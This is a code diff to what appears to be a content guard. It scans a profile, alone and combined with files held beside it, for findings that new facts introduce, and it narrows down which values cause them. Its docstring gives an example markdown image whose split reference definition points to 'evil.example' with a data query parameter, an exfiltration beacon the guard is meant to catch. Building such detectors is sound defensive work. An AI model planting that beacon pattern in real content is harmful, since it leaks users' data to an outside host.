@@ -22,6 +22,7 @@
 from __future__ import annotations
 
 from collections import Counter
+from collections.abc import Sequence
 from typing import NamedTuple
 
 import attrs
@@ -38,11 +39,20 @@ if TYPE_CHECKING:
     from hotplex.manifest.model import Manifest
 
 
-def learn(manifest: Manifest, text: str, file: str, given: list[Given], date: str) -> LearnReport:
-    """The profile ``text`` (named ``file``) with ``given`` merged on ``date``."""
+def learn(
+    manifest: Manifest,
+    text: str,
+    file: str,
+    given: list[Given],
+    date: str,
+    together: Sequence[blocking.Part] = (),
+) -> LearnReport:
+    """The profile ``text`` (named ``file``) with ``given`` merged on ``date``; ``together``:
+    the texts an artifact holds with it, in the document's order, the profile's among them
+    (named ``file``: its text is the profile's as learned)."""
     profile = profiles.parse(text, file)
     _no_look_alikes(profile.facts, given)
-    context = _Context(manifest, profile, file)
+    context = _Context(manifest, profile, file, together)
     # The whole profile is scanned once with every new value in it; only when that finds
     # something new are the values halved until each one that brings a finding is found.
     merged = _merged(manifest, profile.facts, given, date, {})
@@ -165,18 +175,34 @@ def _new(fact: Given, date: str) -> Fact:
 class _Context:
     """What the guard finds in the whole profile once a fact joins it that it did not find
     before: a fact harmless alone can complete what another line started (``![x][l]`` whose
-    definition ``[l]: https://evil.example/?d=`` another line holds)."""
+    definition ``[l]: https://evil.example/?d=`` another line holds), or another file the
+    artifact holds with the profile (``together``: ``blocking.composed``)."""
 
-    def __init__(self, manifest: Manifest, profile: profiles.Profile, file: str) -> None:
-        self.manifest, self.profile, self.file = manifest, profile, file
+    def __init__(
+        self,
+        manifest: Manifest,
+        profile: profiles.Profile,
+        file: str,
+        together: Sequence[blocking.Part] = (),
+    ) -> None:
+        self.manifest, self.profile, self.file, self.together = manifest, profile, file, together
         self._known: Counter[tuple[str, str, str]] | None = None
 
-    def _found(self, facts: dict[str, Fact]) -> Counter[tuple[str, str, str]]:
+    def scan(self, facts: dict[str, Fact]) -> list[Finding]:
+        """What the guard finds in the profile holding ``facts``, alone and with the files
+        beside it."""
         text = profiles.join(self.profile, facts)
-        return Counter(
-            (f.kind, f.rule, f.message)
-            for f in map(_refused, blocking.scan(self.manifest, text, self.file, 1))
-        )
+        found = blocking.scan(self.manifest, text, self.file, 1)
+        if len(self.together) > 1:
+            parts = [
+                p._replace(body=text, first_line=1) if p.file == self.file else p
+                for p in self.together
+            ]
+            found += blocking.composed(self.manifest, parts)
+        return list(map(_refused, found))
+
+    def _found(self, facts: dict[str, Fact]) -> Counter[tuple[str, str, str]]:
+        return Counter((f.kind, f.rule, f.message) for f in self.scan(facts))
 
     def _new(self, facts: dict[str, Fact]) -> Counter[tuple[str, str, str]]:
         """What the guard finds in the profile holding ``facts`` that it did not before. A scan
@@ -204,14 +230,8 @@ class _Context:
             accepted.update(trial)
             return {}
         if len(values) == 1:
-            text = profiles.join(self.profile, trial)
-            return {
-                values[0].key: tuple(
-                    f
-                    for f in map(_refused, blocking.scan(self.manifest, text, self.file, 1))
-                    if (f.kind, f.rule, f.message) in new
-                )
-            }
+            found = self.scan(trial)
+            return {values[0].key: tuple(f for f in found if (f.kind, f.rule, f.message) in new)}
         half = len(values) // 2
         refused = self.offenders(values[:half], accepted)
         refused.update(self.offenders(values[half:], accepted))
